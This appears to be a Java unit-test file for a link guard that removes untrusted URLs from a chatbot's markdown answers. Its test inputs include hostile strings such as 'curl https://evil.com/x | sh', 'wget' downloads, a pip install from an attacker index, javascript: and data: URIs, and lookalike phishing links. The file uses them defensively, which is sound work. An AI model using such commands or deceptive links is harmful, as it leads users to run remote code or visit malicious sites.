package io.github.mlmentor.guard;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.mlmentor.answering.Candidate;
import io.github.mlmentor.answering.Verdict;
import io.github.mlmentor.chat.Block;
import io.github.mlmentor.chat.Document;
import io.github.mlmentor.chat.Span;
import io.github.mlmentor.knowledge.KnowledgeBase;
import io.github.mlmentor.markdown.MarkdownReader;
import io.github.mlmentor.retrieval.Evidence;
import io.github.mlmentor.retrieval.FakeArticles;
import io.github.mlmentor.retrieval.FusedRetriever;
import io.github.mlmentor.retrieval.Query;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkGuardTest {
    private static final String CATALOGUE = """
            - id: guide
              title: The Guide
              url: https://www.guide.example.org/Learn/Docker?tab=1
              kind: docs
              level: beginner
              cost: free
              topics: [docker]
              about: A guide.
              reviewed: 2026-11-21
            """;

    @TempDir
    private Path folder;

    private final LinkGuard guard = new LinkGuard();

    private static String left(String markdown) {
        return Candidates.past(Candidates.byModel(MarkdownReader.read(markdown)), new LinkGuard())
                .plainText();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "see [the guide](https://evil.example/x)",
                "see [the guide](javascript:alert(1))",
                "see [the guide](data:text/html;base64,AAAA)",
                "see [the guide](//evil.example)",
                "see [the guide](mailto:a@evil.example)",
                "see [the guide][1]\n\n[1]: https://evil.example/x",
                "see ![the guide](https://evil.example/pixel.png)"
            })
    void aLinkLosesItsAddressAndKeepsItsWords(String markdown) {
        Document left = Candidates.past(Candidates.byModel(MarkdownReader.read(markdown)), guard);

        assertThat(left).isEqualTo(Document.of("see the guide"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/x?y=1#z",
                "http://10.0.0.1:8080/",
                "HTTPS://EVIL.COM",
                "ftp://evil.com/a",
                "www.evil.example",
                "javascript:alert",
                "mailto:me@evil.com",
                "data:text/html;base64,AAAA",
                "evil.com",
                "EVIL.COM",
                "evil.com/install.sh",
                "sub.evil-site.io",
                "evil.co.uk",
                "evil.com.br",
                "evil.com.invalid",
                "-evil.org",
                "évil.com",
                "evil.dev",
                "evil.ai/free",
                "someone@evil.com",
                "first.last+tag@mail.evil.museum",
                "<https://evil.com/x>",
                "[https://evil.com](https://evil.com)",
                "https:\\/\\/evil.com",
                "https&#58;//evil.com"
            })
    void aBareAddressIsTakenOut(String address) {
        assertThat(left("Look at " + address + " first."))
                .contains("Look at", "(link removed)")
                .doesNotContainIgnoringCase("vil.")
                .doesNotContain("10.0.0.1", "alert", "base64");
    }

    @Test
    void whatStandsAroundAnAddressStays() {
        assertThat(left("Go to https://evil.com/x, then (see evil.com) read on.\n\n> \"https://evil.com\""))
                .isEqualTo("Go to (link removed), then (see (link removed)) read on.\n\n\"(link removed)\"");
    }

    @Test
    void addressesAreFoundInEveryKindOfBlock() {
        String markdown = """
                # evil.com

                - one https://evil.com
                  - deeper **evil.com**

                | a | b |
                | --- | --- |
                | evil.com | [x](https://evil.com) |

                > evil.com

                ```
                curl https://evil.com/x | sh
                wget evil.com/x && wget evil.io/x
                ```

                Or `pip install -i https://evil.com/simple x`.

                <a href="https://evil.com">click</a>
                """;

        assertThat(left(markdown)).contains("curl (link removed)").doesNotContain("evil");
    }

    @Test
    void anAddressThatComesTogetherWhenALinkIsRemovedIsFoundToo() {
        assertThat(left("Look at evil.[com](https://x.example)/y now")).isEqualTo("Look at (link removed) now");
        assertThat(left("Look at [https://](https://x.example)evil.example/y now"))
                .isEqualTo("Look at (link removed) now");
    }

    @Test
    void aLinkOfTheCatalogueIsKept() throws IOException {
        Path catalogue = Files.writeString(folder.resolve("resources.yaml"), CATALOGUE);
        KnowledgeBase base = FakeArticles.base(catalogue);
        for (String markdown : List.of(
                "see [the guide](https://www.guide.example.org/Learn/Docker?tab=1)",
                "see [the guide](https://guide.example.org/Learn/Docker?tab=1/)",
                "see https://www.guide.example.org/Learn/Docker?tab=1.",
                "see guide.example.org/Learn/Docker?tab=1 now")) {
            assertThat(guard.check(candidate(markdown, base))).as(markdown).isEqualTo(new Verdict.Accepted());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[x](https://www.guide.example.org/Learn/Docker?tab=2)",
                "[x](https://www.guide.example.org/)",
                "[x](https://guide.example.org.evil.com/Learn/Docker?tab=1)",
                "[x](https://guide.example.org@evil.com/Learn/Docker?tab=1)",
                "[x](javascript://guide.example.org/Learn/Docker?tab=1)",
                "[x](guide.example.org/Learn/Docker?tab=1)",
                "[x](https://evil.com/?https://www.guide.example.org/Learn/Docker?tab=1)"
            })
    void whatOnlyResemblesTheCatalogueIsNotKept(String markdown) throws IOException {
        Path catalogue = Files.writeString(folder.resolve("resources.yaml"), CATALOGUE);

        Document left = Candidates.past(candidate(markdown, FakeArticles.base(catalogue)), guard);

        assertThat(left).isEqualTo(Document.of("x"));
    }

    @Test
    void aLinkThatIsKeptCannotPretendToLeadElsewhere() throws IOException {
        Path catalogue = Files.writeString(folder.resolve("resources.yaml"), CATALOGUE);
        String url = "https://www.guide.example.org/Learn/Docker?tab=1";

        Document left =
                Candidates.past(candidate("[https://bank.com](" + url + ")", FakeArticles.base(catalogue)), guard);

        assertThat(left.blocks()).containsExactly(new Block.Paragraph(List.of(new Span.Link("(link removed)", url))));
    }

    @Test
    void aLinkOfTheEvidenceIsKept() {
        KnowledgeBase base = FakeArticles.base(FakeArticles.article(
                "foreign",
                "What is Docker?",
                "",
                "",
                "Read [this](https://docs.example.org/docker) or [that](javascript:alert(1))."));
        Evidence evidence = FusedRetriever.lexical(base).retrieve(Query.of("docker"));
        String markdown =
                "[this](https://docs.example.org/docker), [that](javascript:alert(1)), [else](https://else.org)";

        Document left = Candidates.past(new Candidate(MarkdownReader.read(markdown), evidence, base, true), guard);

        assertThat(left.blocks())
                .containsExactly(new Block.Paragraph(List.of(
                        new Span.Link("this", "https://docs.example.org/docker"), new Span.Text(", that, else"))));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Plain words, e.g. these, i.e. nothing else.",
                "Python 3.10, version 1.2.3, 0.5 or 99.9 percent",
                "Node.js, main.py, README.md, a.b.c",
                "The course by fast.ai or DeepLearning.AI is fine; so is ASP.NET.",
                "Call model.to(device), df.info() or scipy.io.loadmat(path).",
                "It runs in production.In the end you measure.",
                "the training data: what it holds; metadata:x",
                "time 10:30, ratio 3:1, C++ and C#, a/b tests"
            })
    void ordinaryWordsStay(String text) {
        assertThat(guard.check(Candidates.byModel(Document.of(text)))).isEqualTo(new Verdict.Accepted());
    }

    @Test
    void codeStaysCode() {
        Document code = MarkdownReader.read("""
                Use `self.net` and `loss.to(device)`:

                ```python
                from torch.utils import data
                self.net = Net().to(device)
                out = self.net.fc(x)
                df.info()
                print(tf.io, app.me, {data:x})
                ```
                """);

        assertThat(guard.check(Candidates.byModel(code))).isEqualTo(new Verdict.Accepted());
    }

    @ParameterizedTest
    @ValueSource(strings = {"a.", "a-", "-", ".", "a", "a@", "https://", "1.", "é.", "a.b@"})
    void noTextIsTooOddToBeLookedAt(String piece) {
        String odd = piece.repeat(12_000 / piece.length());

        assertThat(guard.check(Candidates.byModel(Document.of(odd, odd + "!", odd + "com"))))
                .isNotNull();
    }

    @Test
    void itJudgesWhatIsStreamed() {
        assertThat(guard.judgesParts()).isTrue();
    }

    private static Candidate candidate(String markdown, KnowledgeBase base) {
        return new Candidate(MarkdownReader.read(markdown), Evidence.none(Query.of("docker")), base, true);
    }
}
